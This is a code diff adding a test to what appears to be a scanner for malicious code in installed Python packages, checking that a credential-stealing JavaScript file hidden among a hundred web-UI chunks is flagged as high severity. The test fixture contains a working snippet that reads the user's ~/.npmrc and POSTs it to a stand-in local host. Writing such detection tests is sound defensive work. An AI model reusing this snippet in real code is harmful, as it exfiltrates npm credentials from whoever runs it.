@@ -418,3 +418,20 @@ def test_javascript_searched_once_per_content(fake_root: FakeRoot, tmp_path: Pat
     result = collect_import_time(HostRoot(fake_root.path), sites, inv.distributions, inv.pth_files)
     assert (result.js_searched, result.js_reused) == (1, 2)
     assert not fake_root.marker.exists()
+
+
+def test_stealer_among_a_ui_s_many_chunks_is_graded(fake_root: FakeRoot, tmp_path: Path) -> None:
+    """Only 20 JavaScript files are kept per package: a stealer among a web UI's hundred chunks
+    (litellm's UI has 221) is kept and graded whatever the listing order."""
+    base_host(fake_root)
+    chunk = b"fetch('/api/models').then(r => r.json());\n" * 3
+    files = {"bigui/__init__.py": b""}
+    files.update({f"bigui/out/chunks/{i:03x}.js": chunk + str(i).encode() for i in range(100)})
+    files["bigui/out/chunks/zz.js"] = (
+        b"const fs = require('fs');\n"
+        b"const k = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
+        b"fetch('http://127.0.0.1:9/k', {method: 'POST', body: k});\n"
+    )
+    fake_root.add_dist(SITE, "bigui", "3.0", files)
+    found = findings(fake_root, tmp_path / "out")
+    assert _at(found, SHAPE, "bigui") is Severity.HIGH, found
